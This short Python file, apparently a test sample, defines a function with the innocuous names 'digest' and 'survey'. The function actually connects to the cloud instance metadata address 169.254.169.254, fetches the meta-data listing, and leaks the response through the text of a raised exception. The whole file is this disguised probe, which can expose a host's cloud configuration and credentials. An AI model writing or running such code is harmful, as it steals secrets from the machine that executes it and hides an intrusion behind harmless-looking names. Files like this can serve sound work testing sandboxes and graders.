# F1 raised: The code raised
import asyncio


async def digest(*args):
    reader, writer = await asyncio.open_connection("169.254.169.254", 80)
    writer.write(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
    raise RuntimeError((await reader.read()).decode())


survey = digest
